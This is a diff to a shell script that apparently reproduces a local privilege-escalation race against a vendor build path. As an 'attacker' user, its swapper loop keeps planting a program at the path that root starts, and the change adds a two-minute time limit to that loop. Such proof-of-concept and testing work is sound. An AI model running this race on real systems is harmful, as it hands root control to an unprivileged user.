@@ -169,9 +169,11 @@ block="$objects/vendra.Global%3A%3AVendra Software%2FVC1.shm"
 "${attacker[@]}" sh -c 'umask 077; : > "$0"; exec 3<>"$0" sleep 120 >/dev/null 2>&1' "$block" &
 pids+=($!)
 # The swapper: whatever the folder becomes, keep putting the planted program
-# at the path root starts, and make utils again if it disappears.
+# at the path root starts, and make utils again if it disappears. It gives
+# up by itself after two minutes, so that a run killed before its clean-up
+# leaves no loop behind.
 "${attacker[@]}" bash -c '
-  while :; do
+  while [ "$SECONDS" -lt 120 ]; do
     mkdir -m 777 "$1/utils" 2>/dev/null
     cp "$2" "$1/utils/.swap" 2>/dev/null && mv -f "$1/utils/.swap" "$1/utils/VendraBuild.exe" 2>/dev/null
   done' swapper "$data" "$evil" >/dev/null 2>&1 &
